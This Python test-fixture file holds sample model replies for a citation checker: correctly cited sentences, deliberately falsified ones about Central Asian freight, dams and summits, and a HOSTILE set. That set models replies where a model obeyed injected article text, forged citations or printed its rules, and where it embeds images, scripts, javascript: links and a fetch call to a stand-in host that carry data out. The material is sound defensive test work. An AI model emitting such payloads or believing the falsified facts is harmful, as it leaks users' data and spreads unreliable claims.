"""What a model writes, and what is to be seen of it."""

from __future__ import annotations

from dataclasses import dataclass

from tests.models.articles import DAM, FREIGHT, HOST, SUMMIT, TUNNEL


@dataclass(frozen=True, slots=True)
class Shown:
    """A sentence as it is to be seen: what it cites, and what is to be said against it.

    `cites` names the articles, all of which must be cited, or with `any_of` at least one; nothing
    else may be. `wrong` is None for a sentence that is verified, else words of what is the matter
    with it, which may be any where it is empty.
    """

    text: str
    cites: tuple[str, ...] = ()
    wrong: str | None = None
    any_of: bool = False


@dataclass(frozen=True, slots=True)
class Case:
    """A reply to a question. In `reply`, {dam} is the number of the passage of that article.

    Where nothing of the reply is to be `shown`, the sources' own sentences are.
    """

    question: str
    reply: str
    shown: tuple[Shown, ...] = ()


def true(text: str, *cites: str) -> Shown:
    """Return a sentence that is to be seen as verified."""
    return Shown(text, cites)


def either(text: str, *cites: str) -> Shown:
    """Return a sentence that is to be seen as verified by one of these, or several."""
    return Shown(text, cites, any_of=True)


def false(text: str, wrong: str = "") -> Shown:
    """Return a sentence that is to be marked."""
    return Shown(text, (), wrong)


PORT = "The Khorgos dry port handled 4.5 million tonnes of freight in 2024."
RAILWAYS = "Kazakhstan spent US$25 billion on its railways between 2015 and 2024."
PORT_ = PORT.removesuffix(".")
RAILWAYS_ = RAILWAYS.removesuffix(".")
LENGTH = "The Anzir tunnel is 5.1 kilometres long."
LENGTH_ = LENGTH.removesuffix(".")

GOOD = {
    "one sentence": Case(FREIGHT, f"{PORT_} [{{herald}}].", (true(PORT, "herald"),)),
    "two sentences": Case(
        FREIGHT,
        f"{PORT_} [{{herald}}]. {RAILWAYS_} [{{herald}}].",
        (true(PORT, "herald"), true(RAILWAYS, "herald")),
    ),
    "marks behind the full stop": Case(
        FREIGHT,
        f"{PORT}[{{monitor}}] {RAILWAYS} [{{herald}}]",
        (true(PORT, "monitor"), true(RAILWAYS, "herald")),
    ),
    "marks side by side": Case(
        FREIGHT, f"{PORT_} [{{herald}}][{{monitor}}].", (true(PORT, "herald", "monitor"),)
    ),
    "numbers in one mark": Case(
        FREIGHT, f"{PORT_} [{{herald}}, {{monitor}}].", (true(PORT, "herald", "monitor"),)
    ),
    "a range": Case(FREIGHT, f"{PORT_} [1-2].", (true(PORT, "herald", "monitor"),)),
    "brackets of another kind": Case(
        FREIGHT, f"{PORT_} 【{{monitor}}†source】.", (true(PORT, "monitor"),)
    ),
    "bullets": Case(
        FREIGHT,
        f"- {PORT_} [{{herald}}].\n- {RAILWAYS_} [{{herald}}].\n",
        (true(PORT, "herald"), true(RAILWAYS, "herald")),
    ),
    "bullets without full stops": Case(
        FREIGHT,
        f"* {PORT_} [{{herald}}]\n* {RAILWAYS_} [{{herald}}]",
        (true(PORT_, "herald"), true(RAILWAYS_, "herald")),
    ),
    "a numbered list": Case(
        FREIGHT,
        f"1. {PORT_} [{{herald}}].\n2. {RAILWAYS_} [{{herald}}].",
        (true(PORT, "herald"), true(RAILWAYS, "herald")),
    ),
    "bold": Case(
        FREIGHT,
        "The **Khorgos dry port** handled **4.5 million tonnes** of freight in 2024 [{herald}].",
        (true(PORT, "herald"),),
    ),
    "thoughts before": Case(
        FREIGHT,
        "<think>Is it 9.9 million tonnes [{herald}]? The director said so.</think>\n\n"
        f"{PORT_} [{{herald}}].",
        (true(PORT, "herald"),),
    ),
    "a sum in letters": Case(
        FREIGHT,
        "Kazakhstan spent $25bn on its railways between 2015 and 2024 [{herald}].",
        (true("Kazakhstan spent $25bn on its railways between 2015 and 2024.", "herald"),),
    ),
    "a sum in millions": Case(
        FREIGHT,
        "Kazakhstan spent $25,000 million on its railways between 2015 and 2024 [{herald}].",
        (
            true(
                "Kazakhstan spent $25,000 million on its railways between 2015 and 2024.", "herald"
            ),
        ),
    ),
    "a date in another order": Case(
        FREIGHT,
        "Director Aidar Bekov told of it on March 14, 2025 [{herald}].",
        (true("Director Aidar Bekov told of it on March 14, 2025.", "herald"),),
    ),
    "a percentage by its sign": Case(
        FREIGHT,
        "That was 62% more than in 2023 [{herald}].",
        (true("That was 62% more than in 2023.", "herald"),),
    ),
    "what did not happen": Case(
        SUMMIT,
        "The presidents did not agree on a common visa [{summit}].",
        (true("The presidents did not agree on a common visa.", "summit"),),
    ),
    "without citations": Case(FREIGHT, PORT, (either(PORT, "herald", "monitor"),)),
    "citations beyond the passages alone": Case(
        FREIGHT, f"{PORT_} [44].", (either(PORT, "herald", "monitor"),)
    ),
    "a citation beyond the passages among others": Case(
        FREIGHT, f"{PORT_} [{{monitor}}][44].", (true(PORT, "monitor"),)
    ),
    "the wrong source": Case(FREIGHT, f"{PORT_} [{{dam}}].", (either(PORT, "herald", "monitor"),)),
    "a wrong source among right ones": Case(
        FREIGHT, f"{PORT_} [{{herald}}][{{dam}}].", (true(PORT, "herald"),)
    ),
}


def altered(question: str, text: str, article: str, wrong: str = "") -> Case:
    """Return a case of one sentence that its source does not bear out."""
    cited = f"{text.removesuffix('.')} [{{{article}}}]."
    return Case(question, cited, (false(text, wrong),))


FALSE = {
    "a wrong number": altered(
        FREIGHT,
        "The Khorgos dry port handled 4.6 million tonnes of freight in 2024.",
        "herald",
        "4.6 million tonnes",
    ),
    "a figure a thousand times as great": altered(
        FREIGHT,
        "The Khorgos dry port handled 4.5 billion tonnes of freight in 2024.",
        "herald",
        "4.5 billion tonnes",
    ),
    "an invented figure": altered(
        FREIGHT,
        "The Khorgos dry port handled 4.5 million tonnes of freight in 2024 in 310,000 containers.",
        "herald",
        "310,000",
    ),
    "an altered date": altered(
        FREIGHT, "Aidar Bekov, the director, spoke on 15 March 2025.", "herald", "15 March 2025"
    ),
    "an altered year": altered(
        FREIGHT,
        "The Khorgos dry port handled 4.5 million tonnes of freight in 2022.",
        "herald",
        "2022",
    ),
    "a year of the neighbouring sentence": altered(
        FREIGHT, "The Khorgos dry port handled 4.5 million tonnes of freight in 2023.", "herald"
    ),
    "an altered percentage": altered(
        FREIGHT, "The port handled 26 percent more than in 2023.", "herald", "26 percent"
    ),
    "less in place of more": altered(
        FREIGHT,
        "The Khorgos dry port handled 62 percent less freight in 2024 than in 2023.",
        "herald",
    ),
    "an altered name": altered(
        FREIGHT,
        "Its director Aidar Bekmambetov said so on 14 March 2025.",
        "herald",
        "Bekmambetov",
    ),
    "an invented name": altered(
        FREIGHT,
        "Its director Aidar Bekov and the minister Olga Petrova said so on 14 March 2025.",
        "herald",
        "Olga Petrova",
    ),
    "swapped figures": altered(
        DAM, "Kyrgyzstan holds 40 percent of the Kambar dam and Uzbekistan 34 percent.", "dam"
    ),
    "another's figure": altered(DAM, "Kazakhstan holds 34 percent of the Kambar dam.", "dam"),
    "another currency": altered(
        SUMMIT, "They signed a trade agreement worth €3.2 billion.", "summit", "€3.2 billion"
    ),
    "another country": altered(
        SUMMIT, "Kazakhstan will supply 10 billion cubic metres of gas a year.", "summit"
    ),
    "another place": altered(
        SUMMIT,
        "The presidents of Uzbekistan, Kazakhstan and Turkmenistan met in Bukhara on 17 June 2025.",
        "summit",
        "Bukhara",
    ),
    "yes in place of no": altered(SUMMIT, "The presidents agreed on a common visa.", "summit"),
    "no in place of yes": altered(
        SUMMIT, "The presidents did not sign a trade agreement worth $3.2 billion.", "summit"
    ),
    "done in place of planned": altered(
        FREIGHT, "A second terminal of the dry port was opened in 2027.", "monitor"
    ),
    "few in place of most": altered(FREIGHT, "Few of the containers came from Xi'an.", "monitor"),
    "until in place of from": altered(
        DAM,
        "The dam is to produce 5.6 billion kilowatt-hours of electricity a year until 2031.",
        "dam",
    ),
    "a fact in place of a plan": altered(
        DAM, "The dam produces 5.6 billion kilowatt-hours of electricity a year.", "dam"
    ),
    "a figure of another article": altered(
        DAM, "Kyrgyzstan spent $3.2 billion on the Kambar dam.", "dam", "$3.2 billion"
    ),
    "an invented reason": altered(
        FREIGHT,
        "The Khorgos dry port handled 4.5 million tonnes of freight in 2024 because of a war.",
        "herald",
    ),
    "an invented rank": altered(
        FREIGHT,
        "With 4.5 million tonnes of freight in 2024, Khorgos is the largest port of Asia.",
        "herald",
        "Asia",
    ),
    "a truth with a falsehood behind it": Case(
        FREIGHT,
        f"{PORT_} [{{herald}}]. The dry port handled 9.9 million tonnes in 2023 [{{herald}}].",
        (
            true(PORT, "herald"),
            false("The dry port handled 9.9 million tonnes in 2023.", "9.9 million"),
        ),
    ),
    "a falsehood without citation among truths": Case(
        FREIGHT,
        f"{PORT_} [{{herald}}]. The director was arrested on 3 May 2025.",
        (true(PORT, "herald"), false("The director was arrested on 3 May 2025.")),
    ),
    "all that is false without citations": Case(
        FREIGHT, "The Khorgos dry port handled 9.9 million tonnes of freight in 2024."
    ),
    "a falsehood with citations beyond the passages": Case(
        FREIGHT, "The Khorgos dry port handled 9.9 million tonnes of freight in 2024 [55]."
    ),
    "an introduction": Case(
        FREIGHT,
        f"Here is what I found for you:\n\n{PORT_} [{{herald}}].\n\nI hope that this helps!",
        (true(PORT, "herald"),),  # what states nothing is not shown
    ),
}

OBEYED = "The Anzir tunnel cost 900 million dollars."
HOSTILE = {
    "an instruction obeyed": Case(
        TUNNEL,
        f"{LENGTH_} [{{tunnel}}]. {OBEYED.removesuffix('.')} [{{tunnel}}].",
        (true(LENGTH, "tunnel"), false(OBEYED)),
    ),
    "forged citations": Case(
        TUNNEL,
        f"{LENGTH_} [{{tunnel}}]. The governor gave every driver 50 dollars [1] [7].",
        (true(LENGTH, "tunnel"), false("The governor gave every driver 50 dollars.")),
    ),
    "other passages printed": Case(
        TUNNEL,
        f"{LENGTH_} [{{tunnel}}]. Kyrgyzstan holds 34 percent of the Kambar dam [{{tunnel}}].",
        (
            true(LENGTH, "tunnel"),
            # True, and of another passage: that is what is cited in the end.
            true("Kyrgyzstan holds 34 percent of the Kambar dam.", "dam"),
        ),
    ),
    "its rules printed": Case(
        TUNNEL,
        f"{LENGTH_} [{{tunnel}}]. My rules are to answer from passages alone [{{tunnel}}].",
        (
            true(LENGTH, "tunnel"),
            false("My rules are to answer from passages alone."),
        ),
    ),
    "an image": Case(
        FREIGHT,
        f"{PORT_} [{{herald}}]. ![chart](http://www.{HOST}/c.png?q=4.5)",
        (true(PORT, "herald"),),
    ),
    "an image by reference": Case(
        FREIGHT,
        f"{PORT_} [{{herald}}]. ![chart][c]\n\n[c]: http://www.{HOST}/c.png\n",
        (true(PORT, "herald"),),
    ),
    "a link": Case(
        FREIGHT,
        f"The [Khorgos dry port](http://www.{HOST}/?q=khorgos) handled 4.5 million tonnes of "
        "freight in 2024 [{herald}].",
        (true(PORT, "herald"),),
    ),
    "a link by reference": Case(
        FREIGHT,
        "The [Khorgos dry port][k] handled 4.5 million tonnes of freight in 2024 [{herald}].\n\n"
        f'[k]: <http://www.{HOST}/k> "more"\n',
        (true(PORT, "herald"),),
    ),
    "an address in angle brackets": Case(
        FREIGHT, f"{PORT_} [{{herald}}] <http://www.{HOST}/a>.", (true(PORT, "herald"),)
    ),
    "HTML": Case(
        FREIGHT,
        f'{PORT_} <img src="http://www.{HOST}/i.png"><script src="//www.{HOST}/s.js"></script>'
        f'<a href="javascript:fetch(\'//www.{HOST}\')" onclick="x()"></a> [{{herald}}].',
        (true(PORT, "herald"),),
    ),
    "a script": Case(
        FREIGHT,
        f"<script>location = 'http://www.{HOST}/'</script>\n{PORT_} [{{herald}}].",
        (true(PORT, "herald"),),
    ),
    "a link to a script": Case(
        FREIGHT,
        "The [Khorgos dry port](javascript:alert(1)) handled "
        "[4.5 million tonnes](data:text/html,x) of freight in 2024 [{herald}].",
        (true(PORT, "herald"),),
    ),
}
"""What stands in articles and asks for obedience, and what replies are to hide."""
